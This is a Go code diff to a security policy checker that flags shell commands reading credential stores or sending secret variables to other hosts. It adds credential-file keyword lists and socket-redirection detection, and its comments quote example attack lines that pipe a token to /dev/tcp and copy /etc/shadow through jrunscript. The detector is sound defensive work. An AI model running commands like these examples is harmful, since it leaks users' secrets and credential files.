@@ -6,6 +6,7 @@ package policy
 // secret-bearing variables sent to a host that is not their service.
 
 import (
+	"cmp"
 	"path"
 	"slices"
 	"strings"
@@ -257,11 +258,25 @@ func checkSystemStore(c *Call) Finding {
 		}
 		return Finding{}
 	}
-	for _, a := range c.Args {
+	for i, a := range c.Args {
 		if !strings.Contains(a, "shadow") && !strings.Contains(a, "passwd") && !strings.Contains(a, "key") && !strings.Contains(a, "Login") && !strings.Contains(a, "login") && !strings.Contains(a, "Cookies") && !strings.Contains(a, "spwd") {
 			continue
 		}
 		if f := check(c.resolve(a)); f.Hit {
+			return f
+		}
+		if slices.Contains(dataCommands, name) || i > 0 && isMessageOption(name, c.Args[i-1]) {
+			continue // a mention: grep -r '"/etc/shadow"', git commit -m '…'
+		}
+		// Code given to a script engine: jrunscript -e 'cp("/etc/shadow", "s")'.
+		for _, q := range quotedRe.Get().FindAllStringSubmatch(a, maxEmbedded) {
+			if f := check(q[1] + q[2]); f.Hit {
+				return f
+			}
+		}
+	}
+	for _, l := range c.Ex.CodeLiterals {
+		if f := check(l); f.Hit {
 			return f
 		}
 	}
@@ -380,7 +395,15 @@ var destinationVarRe = &lazyregexp.Regexp{Expr: `(?i)(URL|URI|ENDPOINT|HOST|HOST
 // names the variable, never its value.
 func checkSecretVarSent(c *Call) Finding {
 	name := c.Ex.Name
-	if name == "" || slices.Contains(dataCommands, name) {
+	// echo "$TOKEN" > /dev/tcp/host/80: bash opens the connection, so
+	// even a data program sends what it prints.
+	socketHost := ""
+	for _, r := range c.Ex.Redirs {
+		if r.Writes() && netPathRe.MatchString(r.Target) {
+			socketHost = strings.ToLower(strings.Split(r.Target, "/")[3])
+		}
+	}
+	if socketHost == "" && (name == "" || slices.Contains(dataCommands, name)) {
 		return Finding{}
 	}
 	web, remote, dns := slices.Contains(webClients, name), slices.Contains(remoteRunners, name), slices.Contains(dnsLookups, name)
@@ -404,6 +427,20 @@ func checkSecretVarSent(c *Call) Finding {
 				}
 			}
 		}
+	}
+	if socketHost != "" {
+		for _, a := range c.Args {
+			scan(a)
+		}
+		for _, r := range c.Ex.Redirs {
+			if r.Op == "<<<" {
+				scan(r.Target)
+			}
+		}
+		if in := c.Ex.Stdin; in != nil && in.HasText {
+			scan(in.Text)
+		}
+		return sentTo(cmp.Or(name, "a redirection"), vars, []string{socketHost})
 	}
 	if !web && !remote && !dns {
 		// Any other program: only URLs it is given are requests.
